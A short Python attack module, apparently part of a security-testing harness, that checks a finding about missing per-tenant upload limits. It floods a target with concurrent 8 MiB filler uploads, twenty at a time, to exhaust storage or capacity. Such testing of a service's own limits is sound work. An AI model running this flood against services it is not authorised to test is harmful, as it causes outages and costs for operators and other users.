"""Uploads, as many and as large as may be, at once."""

from tools.attacks.target import AttackTarget
from tools.attacks.uploads import upload

FINDING = "11: files have no limits per tenant in number, rate and sum"

AT_ONCE = 20
FILE_BYTES = 8 * 2**20


async def attack(target: AttackTarget) -> None:
    """Twenty uploads at a time, until the attack is over."""
    data = (b'{"custom_id": "x"}' + b" " * 1005 + b"\n") * (FILE_BYTES // 1024)
    async with target.client() as client:
        await target.crowd(lambda: upload(target, client, data), AT_ONCE)
